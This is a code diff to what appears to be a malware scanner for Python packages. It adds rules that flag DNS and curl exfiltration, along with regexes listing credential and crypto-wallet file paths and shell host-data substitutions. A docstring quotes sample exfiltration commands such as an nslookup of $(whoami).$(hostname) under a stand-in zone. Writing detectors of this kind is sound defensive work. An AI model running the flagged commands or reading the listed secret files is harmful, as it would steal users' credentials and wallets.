@@ -11,7 +11,7 @@ from __future__ import annotations
 import ast
 import re
 
-from pypi_platform.lib.scanner.call_roles import NETWORK, qualified
+from pypi_platform.lib.scanner.call_roles import NETWORK, PROCESS, qualified
 from pypi_platform.lib.scanner.syntax_walk import argument
 
 # Sources of data about the machine and its user: what a beacon or a stealer sends home.
@@ -45,7 +45,8 @@ _BODY_KEYWORDS = ("data", "json", "params", "files", "body", "content")
 # Files whose contents are what a stealer uploads: keys, shell histories, password and configuration stores.
 _SENSITIVE_FILES = re.compile(
     r"\.ssh/|/etc/(?:passwd|shadow)|\.aws/|\.kube/|\.gnupg|_history\b|\.netrc|\.pypirc|\.docker/config"
-    r"|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|\.config\b|\.git-credentials",
+    r"|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|\.config\b|\.git-credentials"
+    r"|wallet\.dat|\.electrum|\.ethereum/keystore|solana/id\.json|exodus|local extension settings",
     re.IGNORECASE,
 )
 _READS = {"read", "read_text", "read_bytes"}
@@ -55,9 +56,20 @@ _DROP_HOSTS = re.compile(
     re.IGNORECASE,
 )
 
+# Lookups and uploads through command-line tools: a name with host data or shell substitutions in it, a file
+# posted with curl.
+_LOOKUP_TOOLS = re.compile(r"^(?:nslookup|dig|host|drill|resolvectl\s+query)\b", re.IGNORECASE)
+_SHELL_HOST_DATA = re.compile(
+    r"\$\((?:whoami|hostname|id|uname)[^)]*\)|`(?:whoami|hostname)`|%(?:username|computername)%", re.I
+)
+_CURL_UPLOAD = re.compile(
+    r"\bcurl\b.*(?:\s-F\s*\S*=@|--data-binary\s+@|\s-T\s|--upload-file\b)", re.IGNORECASE
+)
+
 ROLES = (
     ("resolve-name", _RESOLVERS),
     ("send-http", _HTTP_SENDERS),
+    ("exfil-command", PROCESS),
 )
 
 
@@ -160,5 +172,28 @@ def _sensitive_file_read(scan, expr: ast.expr, scope: int, *, drop: bool) -> str
     return None
 
 
-CHECKS = {"resolve-name": check_resolution, "send-http": check_http_send}
+def check_command(scan, call: ast.Call, scope: int, target: str) -> None:
+    """nslookup "$(whoami).$(hostname).zone.example", dig with host data, curl -F "f=@file" URL."""
+    command = scan.command_text(call, scope).strip()
+    if _LOOKUP_TOOLS.search(command) or re.search(r"[;&|]\s*(?:nslookup|dig|host)\b", command):
+        source = _SHELL_HOST_DATA.search(command)
+        found = (
+            source.group(0)
+            if source
+            else next(filter(None, (carries_host_data(scan, part, scope) for part in call.args[:2])), None)
+        )
+        if found is not None:
+            scan.add("exfiltration.dns", call, evidence=f"{found} in a name looked up with a command")
+    elif _CURL_UPLOAD.search(command):
+        scan.add("exfiltration.host-data", call, evidence="a file uploaded with curl")
+
+
+def check_resolver_method(scan, call: ast.Call, scope: int, method: str) -> None:
+    """resolver.resolve(name) on a dns.resolver.Resolver held in a name."""
+    if call.args:
+        check_resolution(scan, call, scope, method)
+
+
+CHECKS = {"resolve-name": check_resolution, "send-http": check_http_send, "exfil-command": check_command}
 METHOD_CHECKS = dict.fromkeys(("post", "put", "request", "send", "sendall", "sendto"), check_sending_method)
+METHOD_CHECKS.update(dict.fromkeys(("resolve", "query"), check_resolver_method))
